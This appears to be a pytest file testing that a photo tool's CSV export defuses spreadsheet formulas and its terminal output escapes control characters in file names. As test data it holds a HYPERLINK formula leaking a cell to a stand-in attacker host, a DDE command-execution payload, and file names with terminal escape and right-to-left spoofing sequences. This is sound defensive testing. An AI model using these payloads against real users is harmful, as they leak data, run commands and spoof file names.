"""Untrusted text on the way out: CSV cells a spreadsheet would run, and file names that drive the terminal."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from aesthete_gui.cli import main
from aesthete_gui.safe_text import spreadsheet_cell, terminal_text
from tests.imaging.conftest import exif_with, photo

FORMULAS = {
    "camera": '=HYPERLINK("http://attacker.invalid/?"&A1,"Canon")',
    "lens": "+cmd|' /C calc'!A0",
}


def _run(profile: Path, *args: str) -> int:
    return main(["--profile", str(profile), *args])


def test_exported_csv_neutralises_formulas_from_exif(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shoot = tmp_path / "shoot"
    shoot.mkdir()
    exif = exif_with(model=FORMULAS["camera"], lens=FORMULAS["lens"], when="2024:01:02 03:04:05")
    photo((96, 64)).save(shoot / "@evil.jpg", "JPEG", exif=exif)
    photo((96, 64), "coffee").save(shoot / "plain.jpg", "JPEG", exif=exif_with(model="-5 EV body"))
    profile = tmp_path / "p.db"
    assert _run(profile, "import", "--quiet", "--workers", "1", str(shoot)) == 0
    assert _run(profile, "mark", str(shoot / "plain.jpg"), "--stars", "3") == 0
    capsys.readouterr()
    assert _run(profile, "export", "--format", "csv") == 0
    rows = {Path(r["path"]).name: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    evil, plain = rows["@evil.jpg"], rows["plain.jpg"]
    assert evil["camera"] == "'" + FORMULAS["camera"] and evil["lens"] == "'" + FORMULAS["lens"]
    assert plain["camera"] == "'-5 EV body"
    assert plain["stars"] == "3" and evil["width"] == "96"  # numbers are left as numbers
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows.values() for value in row.values())


def test_control_characters_in_file_names_are_escaped_on_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shoot = tmp_path / "shoot"
    shoot.mkdir()
    hostile = "clear\x1b[2J\x1b]0;owned\x07\rname\u202egpj.jpg"
    photo((64, 48)).save(shoot / hostile, "JPEG")
    (shoot / "broken\x1b[31m.jpg").write_bytes(b"\xff\xd8\xff\xe0 not really a jpeg")
    profile = tmp_path / "p.db"
    assert _run(profile, "import", "--quiet", "--workers", "1", str(shoot)) == 0
    assert _run(profile, "images") == 0
    assert _run(profile, "mark", str(shoot / "gone\x1b[2J.jpg"), "--stars", "2") == 2
    captured = capsys.readouterr()
    text = captured.out + captured.err
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text and "\u202e" not in text
    assert "clear\\x1b[2J\\x1b]0;owned\\x07\\x0dname\\u202egpj.jpg" in captured.out
    assert "broken\\x1b[31m.jpg" in captured.out
    assert "image not in the profile: " in captured.err and "gone\\x1b[2J.jpg" in captured.err


def test_the_helpers() -> None:
    assert terminal_text("a\tb\nc\x7f\x9b\udce9") == "a\\x09b\\x0ac\\x7f\\x9b\\xe9"
    assert terminal_text("café ² 日本") == "café ² 日本"
    assert [spreadsheet_cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "ok", 5, -1.5, None)] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "ok", 5, -1.5, None,
    ]  # fmt: skip
